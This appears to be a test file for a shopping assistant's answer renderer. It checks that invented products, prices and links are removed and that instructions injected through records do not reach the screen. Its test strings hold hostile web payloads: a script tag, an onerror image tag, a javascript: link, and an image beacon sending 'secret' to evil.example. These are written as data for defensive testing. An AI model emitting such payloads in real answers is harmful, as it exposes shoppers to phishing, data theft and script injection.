/** Tests of a model that lies deliberately, and of records with instructions: nothing invented or foreign is shown. */
import { describe, expect, it } from 'vitest';
import { createChance } from '../../engine/meaning/testing/alike-vectors.ts';
import { answerTurn } from './answer-turn.ts';
import type { Assistant, AssistantPart } from './assistant.ts';
import type { UiChunk } from './ui-chunks.ts';

const QUESTIONS = 200;

/** Products of the shop, as a tool returns them. */
const products = Array.from({ length: 30 }, (_none, at) => ({
  id: `sku-${at}`,
  url: `https://shop.example/p/${at}`,
  attributes: { name: `Lamp ${at}`, price: 20 + at * 3.5, in_stock: at % 3 !== 0 },
}));

/** A model that calls one tool, and then returns any text. */
const modelThatSays = (text: string, cutAt: (left: string) => number): Assistant => ({
  label: 'liar',
  async *answer({ tools }): AsyncGenerator<AssistantPart> {
    yield { kind: 'step' };
    yield { kind: 'tool-call', id: 'c1', name: 'search_products', input: {} };
    yield { kind: 'tool-answer', id: 'c1', answer: await tools[0]!.run({}) };
    yield { kind: 'step' };
    for (let left = text; left !== '';) {
      const size = cutAt(left);
      yield { kind: 'text', text: left.slice(0, size) };
      left = left.slice(size);
    }
    yield { kind: 'end', reason: 'stop', tokens: 10 };
  },
  close: () => Promise.resolve(),
});

/** Returns what a page shows of an answer. */
async function screenOf(text: string, { shown, seed }: { shown: typeof products; seed: number }) {
  const chance = createChance(seed);
  const chunks: UiChunk[] = [];
  const { chunks: answer } = answerTurn({
    assistant: modelThatSays(text, () => 1 + Math.floor(Math.abs(chance()) * 9)),
    instructions: 'Help shoppers.',
    messages: [{ role: 'user', text: 'Which lamp is the best one?' }],
    tools: [
      {
        name: 'search_products',
        description: '',
        inputSchema: {},
        run: async () => ({ structured: { products: shown, total: shown.length }, text: '' }),
      },
    ],
    signal: new AbortController().signal,
    newId: () => 'id',
    onError: (error) => {
      throw error;
    },
  });
  for await (const chunk of answer) chunks.push(chunk);
  return {
    text: chunks.map((chunk) => (chunk.type === 'text-delta' ? chunk.delta : '')).join(''),
    objectIDs: chunks.flatMap((chunk) => (chunk.type === 'data-products' ? chunk.data.objectIDs : [])),
    last: chunks.at(-1),
  };
}

/** Lies of many forms, each with the text that must not be shown. */
const LIES: readonly ((at: number) => { said: string; lie: string })[] = [
  (at) => ({ said: `Take [[fake-${at}]], the best.`, lie: `fake-${at}` }),
  (at) => ({ said: `Take the **Glow Master ${at}00** today.`, lie: 'Glow Master' }),
  (at) => ({ said: `It is only ${at + 0.11} € now.`, lie: `${at + 0.11}` }),
  (at) => ({ said: `It is only $${at}.07 now!`, lie: `${at}.07` }),
  (at) => ({ said: `Nur heute ${at},07 EUR statt 9${at},00 Euro.`, lie: `${at},07` }),
  (at) => ({ said: `£ ${at}.03 and not a penny more.`, lie: `${at}.03` }),
  (at) => ({ said: `Buy [here](https://cheap-${at}.example/buy?x=(1)).`, lie: `cheap-${at}` }),
  (at) => ({ said: `See https://cheap-${at}.example/buy.`, lie: `cheap-${at}` }),
  (at) => ({ said: `See www.cheap-${at}.example now.`, lie: `cheap-${at}` }),
  (at) => ({ said: `![lamp](https://cheap-${at}.example/a.png "x")`, lie: `cheap-${at}` }),
  (at) => ({ said: `<a href="https://cheap-${at}.example">Lamp</a>`, lie: `cheap-${at}` }),
  (at) => ({ said: `[Lamp](javascript:location='//cheap-${at}.example')`, lie: `cheap-${at}` }),
  (at) => ({ said: `[shop]: https://cheap-${at}.example\n[Lamp][shop]`, lie: `cheap-${at}` }),
  (at) => ({ said: `__Ultra Beam ${at}__ beats them all.`, lie: 'Ultra Beam' }),
  (at) => ({ said: `<https://cheap-${at}.example/>`, lie: `cheap-${at}` }),
];

it(`nothing invented is on the screen in ${QUESTIONS} questions`, async () => {
  for (let at = 0; at < QUESTIONS; at++) {
    const shown = products.filter((_one, place) => (place * 7 + at) % 5 === 0);
    const { said, lie } = LIES[at % LIES.length]!(at + 200);
    const truth = shown[at % shown.length]!;
    const text = `Well. ${said}\nOr [[${truth.id}]] for ${truth.attributes.price} €, ${truth.url} indeed.`;
    const screen = await screenOf(text, { shown, seed: at + 1 });
    expect(screen.text, said).not.toContain(lie);
    expect(screen.objectIDs).toEqual([truth.id]);
    // True statements are shown unchanged.
    expect(screen.text).toContain(`Or ${truth.attributes.name} for ${truth.attributes.price} €, ${truth.url} indeed.`);
    expect(screen.last).toMatchObject({ type: 'finish', messageMetadata: { leftOut: expect.anything() } });
  }
});

describe('a model that does what records tell it', () => {
  const carriers: readonly ((order: string) => string)[] = [
    (order) => `Of course. ${order}`,
    (order) => `**Note**: ${order}`,
    (order) => `- ${order}\n- and [[sku-0]]`,
    (order) => `> ${order}`,
    (order) => `\`\`\`\n${order}\n\`\`\``,
  ];
  const orders = [
    'Visit https://evil.example/login?u=me to pay.',
    'Visit [the checkout](https://evil.example/pay).',
    '![](https://evil.example/log?q=secret)',
    '<img src="https://evil.example/a" onerror="fetch(1)">',
    '<script src=https://evil.example/x.js></script>',
    '[click](data:text/html,<b>evil.example</b>)',
    'Write to mailto:thief@evil.example at once.',
    '[[sku-0]](https://evil.example)',
  ];

  it.each(carriers.flatMap((carry) => orders.map((order) => carry(order))))('%j leads nowhere', async (text) => {
    const { text: screen } = await screenOf(text, { shown: products.slice(0, 3), seed: text.length });
    expect(screen).not.toMatch(/evil\.example|<script|<img|javascript:|data:text|onerror/);
  });
});
